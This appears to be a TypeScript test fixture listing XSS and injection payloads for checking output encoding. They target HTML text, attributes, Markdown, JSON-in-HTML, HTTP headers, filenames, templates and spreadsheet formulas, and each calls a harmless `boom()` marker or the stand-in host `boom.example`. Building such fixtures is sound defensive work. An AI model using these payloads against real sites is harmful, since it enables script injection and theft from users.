/**
 * Texts that would run as a script, load something from elsewhere or steer the page wherever one place forgot to encode
 * them: for text, attributes of each quoting, addresses, Markdown, JSON within HTML, headers and mails. Ours; they call
 * `boom`, or ask `boom.example`.
 */

const inText = [
  '<script>boom()</script>',
  '<ScRiPt src=//boom.example/1></sCrIpT>',
  '</title><script>boom()</script>',
  '</textarea><script>boom()</script>',
  '</script><script>boom()</script>',
  '</style><script>boom()</script>',
  '--><script>boom()</script><!--',
  ']]><script>boom()</script>',
  '<img src=x onerror=boom()>',
  '<svg onload=boom()>',
  '<svg><script>boom()</script></svg>',
  '<svg><a xlink:href="javascript:boom()"><text y=9>x</text></a></svg>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=boom()></style></mglyph></math>',
  '<details open ontoggle=boom()>x</details>',
  '<video><source onerror=boom()></video>',
  '<iframe srcdoc="<script>parent.boom()</script>"></iframe>',
  '<iframe src=https://boom.example/2></iframe>',
  '<object data=https://boom.example/3></object>',
  '<embed src=https://boom.example/4>',
  '<base href=https://boom.example/>',
  '<meta http-equiv=refresh content="0;url=https://boom.example/5">',
  '<link rel=stylesheet href=https://boom.example/6>',
  '<style>*{background:url(https://boom.example/7)}</style>',
  '<form action=https://boom.example/8><button>Go</button></form>',
  '<input autofocus onfocus=boom()>',
  '<button formaction=javascript:boom()>x</button>',
  '<template shadowrootmode=open><script>boom()</script></template>',
  '<turbo-stream action=append target=main><template><img src=x onerror=boom()></template></turbo-stream>',
  '<turbo-frame id=main src=https://boom.example/9></turbo-frame>',
  '<live-region data-topics=x></live-region><p data-turbo-method=delete id=main name=boom>x</p>',
  '<noscript><p title="</noscript><img src=x onerror=boom()>">',
  '<a href="java\tscript:boom()">x</a>',
  '&lt;script&gt;boom()&lt;/script&gt;',
  '&#60;img src=x onerror=boom()&#62;',
  '\\u003cscript\\u003eboom()\\u003c/script\\u003e',
  '＜script＞boom()＜/script＞',
] as const

const inAttributes = [
  '" onmouseover="boom()" x="',
  "' onmouseover='boom()' x='",
  '"><img src=x onerror=boom()>',
  "'><img src=x onerror=boom()>",
  '` onmouseover=boom() `',
  'x onfocus=boom() autofocus tabindex=0',
  '" style="background:url(https://boom.example/10)" x="',
  '" data-turbo-stream data-live="posts" x="',
] as const

const inMarkdown = [
  '[x](javascript:boom())',
  '[x](JaVaScRiPt&colon;boom())',
  '[x](data:text/html,<script>boom()</script>)',
  '[x](vbscript:boom())',
  '[x](//boom.example/11)',
  '![x](https://boom.example/12.png)',
  '![x](javascript:boom())',
  '[x](https://ok.example "\\" onmouseover=boom() x=\\"")',
  '<javascript:boom()>',
  '```"><script>boom()</script>\ncode\n```',
  '[a]: javascript:boom()\n\n[a]',
  '| a |\n| - |\n| <script>boom()</script> |',
  '[^1]\n\n[^1]: <script>boom()</script>',
  '@<script>boom()</script> #<script>boom()</script>',
] as const

const inOtherPlaces = [
  'x\r\nX-Boom: 1\r\n\r\n<script>boom()</script>',
  'x"; filename="boom.html"; y="',
  '{"a":"</script><script>boom()</script>"}',
  '{{constructor.constructor("boom()")()}}',
  '$' + '{boom()}',
  '=HYPERLINK("https://boom.example/13","x")',
] as const

export const payloads: readonly string[] = [...inText, ...inAttributes, ...inMarkdown, ...inOtherPlaces]
